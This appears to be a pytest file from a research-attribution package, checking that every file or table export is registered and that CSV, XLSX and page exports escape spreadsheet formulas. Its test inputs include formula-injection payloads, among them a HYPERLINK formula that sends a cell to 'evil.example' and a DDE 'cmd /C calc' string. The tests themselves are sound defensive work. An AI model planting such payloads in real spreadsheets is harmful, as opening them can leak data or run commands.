"""Every way in which a table or file leaves the program is known, and lets no formula out."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest

import attribution
from attribution.claims.templates import PLACEHOLDERS, fill_in
from attribution.cli.printing import tab_separated
from attribution.dashboard import server, tables
from attribution.exports.tables import render_table
from attribution.record.formats import render_record
from attribution.record.technician_record import Record

PACKAGE = Path(attribution.__file__).parent
# Calls that write a table or file, or show a table that Streamlit would let people take away.
MAKERS = """
csv.writer csv.DictWriter openpyxl.Workbook docx.Document pq.write_table pq.ParquetWriter
st.download_button st.dataframe st.table st.data_editor st.vega_lite_chart st.altair_chart
sys.stdout.buffer.write
"""
METHODS = ("to_csv", "to_excel", "to_parquet", "to_html", "to_json", "write_bytes", "writestr")
# Who may, and why nothing gets out there that `exports` has not made safe.
TABLES = "the exit of all tables"
OF_EXPORTS = "hands over what an exit made"
IN_THE_HOME = "a file of the home folder, read by this program only"
FOR_PROGRAMS = "JSON lines or Parquet, which no program computes"
NO_EXPORT = "the toolbar is switched off: `client.disableDataExport`"
AS_RECEIVED = "a file as a person attached it, of a kind that is checked"
# Tables among them are made by `exports`; RIS, BibTeX and CSL-JSON hold no formulas.
OF_LINKS = "links for the institution's system, by harvest/exchange/writing"
EXITS = {
    ("acknowledgements/files.py", "pq.ParquetWriter"): FOR_PROGRAMS,
    ("matching/files.py", "pq.write_table"): FOR_PROGRAMS,
    ("cli/audit.py", "write_bytes"): OF_EXPORTS,
    ("review/audit_sheet.py", "openpyxl.Workbook"): OF_EXPORTS,
    ("cli/orcids.py", "write_bytes"): OF_EXPORTS,
    ("cli/outputs.py", "write_bytes"): OF_LINKS,
    ("cli/records.py", "write_bytes"): OF_EXPORTS,
    ("cli/review.py", "write_bytes"): OF_EXPORTS,
    ("cli/site.py", "write_bytes"): OF_EXPORTS,
    ("cli/tables.py", "write_bytes"): OF_EXPORTS,
    ("cli/tables.py", "sys.stdout.buffer.write"): OF_EXPORTS,
    ("dashboard/claim/evidence.py", "st.download_button"): AS_RECEIVED,
    ("dashboard/components.py", "st.vega_lite_chart"): NO_EXPORT,
    ("operations/backup/drill.py", "write_bytes"): IN_THE_HOME,
    ("operations/freeze_check.py", "write_bytes"): "the ledger, to a folder that is then deleted",
    ("operations/old_searches.py", "pq.write_table"): IN_THE_HOME,
    ("dashboard/exported_links.py", "st.download_button"): OF_LINKS,
    (
        "dashboard/message_files.py",
        "st.download_button",
    ): "e-mails as text, and letters as HTML and Word",
    ("claims/invitations/letter_files.py", "docx.Document"): "text without formulas",
    ("dashboard/record/held_data.py", "st.download_button"): "escaped HTML, and JSON for programs",
    ("dashboard/record/downloads.py", "st.download_button"): OF_EXPORTS,
    ("dashboard/pages/technicians.py", "st.download_button"): OF_EXPORTS,
    ("dashboard/pack_download.py", "st.download_button"): OF_EXPORTS,
    ("dashboard/spreadsheets.py", "st.download_button"): OF_EXPORTS,
    ("dashboard/tables.py", "st.dataframe"): NO_EXPORT,
    ("dashboard/tables.py", "st.download_button"): OF_EXPORTS,
    ("evaluation/invented_university.py", "csv.writer"): "invented people",
    ("exports/tables.py", "csv.writer"): TABLES,
    ("exports/tables.py", "pq.write_table"): TABLES,
    ("exports/workbook.py", "openpyxl.Workbook"): TABLES,
    ("exports/zip_file.py", "writestr"): "the parts of a ZIP or Word file",
    ("harvest/parsed_files.py", "pq.ParquetWriter"): IN_THE_HOME,
    ("harvest/summaries.py", "write_bytes"): IN_THE_HOME,
    ("releases/packs/data_files.py", "pq.write_table"): FOR_PROGRAMS,
    ("releases/packs/word.py", "docx.Document"): "text without formulas",
    ("privacy/erased_files.py", "pq.write_table"): IN_THE_HOME,
    ("privacy/subject_export.py", "writestr"): "escaped HTML, and JSON for programs",
    ("record/word.py", "docx.Document"): "text without formulas",
    ("review/spreadsheet_export.py", "openpyxl.Workbook"): "its cells are filled by `exports`",
    ("core/bounded_process.py", "sys.stdout.buffer.write"): "to the program that started it",
    ("roster/kept_file.py", "csv.writer"): IN_THE_HOME,
    ("snapshot/first_nights.py", "pq.write_table"): IN_THE_HOME,
}


def makers(source: str) -> Iterator[str]:
    """The calls in a file that make a table or file."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = ast.unparse(node.func)
            if name in MAKERS.split():
                yield name
            elif node.func.attr in METHODS:
                yield node.func.attr


def test_a_new_exit_is_noticed() -> None:
    found = {
        (path.relative_to(PACKAGE).as_posix(), maker)
        for path in sorted(PACKAGE.rglob("*.py"))
        if "demo" not in path.parts
        for maker in makers(path.read_text(encoding="utf-8"))
    }
    assert found == set(EXITS), "send a new file through attribution/exports, then list it here"
    assert list(makers("pd.DataFrame(x).to_csv()\nst.dataframe(x)")) == ["to_csv", "st.dataframe"]


def test_the_toolbar_of_tables_is_switched_off() -> None:
    options = server.server_options("127.0.0.1", 8501)
    assert "--client.disableDataExport=true" in options
    settings = PACKAGE.parent / ".streamlit" / "config.toml"
    assert "disableDataExport = true" in settings.read_text(encoding="utf-8")


# -- what gets out ---------------------------------------------------------------------------------

LIVE = '=HYPERLINK("http://evil.example?x="&A1,"x")'
DISGUISED = [LIVE, "\uff1d1+1", "\t@SUM(A1)", '"=1+1"', "x;=1+1", "+cmd|' /C calc'!A0", "-A1\f"]
DAY = date(2026, 5, 8)


def record_of(text: str) -> Record:
    names = "title journal publisher volume issue pages issn printed context phrase doi work_id"
    credit = dict.fromkeys(names.split(), text) | {
        "work_id": "w1",
        "kind": "author",
        "status": "accepted",
        "type": "article",
        "published": DAY,
        "published_precision": "day",
        "is_retracted": False,
        "mention_id": "m1",
    }
    authors = {"w1": [{"name": text, "given": None, "family": None, "is_group": False}]}
    return Record("T1", text, None, text, text, DAY, (credit,), (), authors)


def of_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def of_xlsx(data: bytes) -> list[str]:
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)
    return [str(cell) for row in page.iter_rows(values_only=True) for cell in row]


def on_a_page(text: str) -> list[str]:
    columns = [tables.Column("title", "Title", "Title of the work")]
    return of_csv(tables.csv([{"title": text}], columns, "Note"))


SPREADSHEETS: dict[str, Callable[[str], list[str]]] = {
    "table as CSV": lambda text: of_csv(
        render_table([{"a": text, "b": [text]}], ["a", "b"], "csv")
    ),
    "table as XLSX": lambda text: of_xlsx(render_table([{"a": text}], ["a"], "xlsx")),
    "record as CSV": lambda text: of_csv(render_record(record_of(text), "csv")),
    "record as XLSX": lambda text: of_xlsx(render_record(record_of(text), "xlsx")),
    "table of a page": on_a_page,
    "lines of a command": lambda text: "\n".join(tab_separated([{"a": text}])).split("\n"),
}


@pytest.mark.parametrize("exit_name", SPREADSHEETS)
@pytest.mark.parametrize("text", DISGUISED)
def test_no_exit_lets_a_formula_out(exit_name: str, text: str) -> None:
    cells = SPREADSHEETS[exit_name](text)
    assert any("'" in cell for cell in cells)
    for cell in cells:
        for part in cell.split(";"):
            assert not part.strip().strip("\"'“” ").startswith(("=", "@", "\uff1d")) or (
                part.strip().startswith("'")
            ), cell


SICI = "10.1002/(sici)1097-0258(19980815/30)17:15/16<1661::aid-sim968>3.0.co;2-0"


@pytest.mark.parametrize("text", [SICI, "p < 0.05 and q > 3", "A&B <c>"])
def test_angle_brackets_survive_in_every_file(text: str) -> None:
    record = record_of(text)
    page = render_record(record, "html").decode()
    assert text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in page
    bibtex = render_record(record, "bib").decode()
    assert f"title = {{{text.replace('&', chr(92) + '&')}}}" in bibtex
    assert text in of_csv(render_record(record, "csv"))
    assert text in of_xlsx(render_record(record, "xlsx"))
    paragraphs = docx.Document(io.BytesIO(render_record(record, "docx"))).paragraphs
    assert any(text in paragraph.text for paragraph in paragraphs)
    letter = fill_in("openalex", dict.fromkeys(PLACEHOLDERS, text))
    assert text in letter.text
